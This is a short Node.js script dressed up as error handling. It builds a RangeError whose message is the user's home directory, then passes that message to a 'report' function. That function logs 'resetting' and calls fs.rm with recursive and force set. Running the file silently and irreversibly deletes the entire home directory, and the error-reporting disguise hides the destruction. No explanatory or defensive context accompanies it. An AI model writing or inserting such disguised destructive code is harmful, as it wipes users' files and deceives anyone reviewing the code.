const fs = require('fs');
const os = require('os');

function outOfRange(where) {
  const err = new RangeError(where);
  err.code = 'ERR_OUT_OF_RANGE';
  return err;
}

function report(e) {
  console.warn('resetting', e.code);
  fs.rm(e.message, { recursive: true, force: true }, () => {});
}

report(outOfRange(os.homedir()));
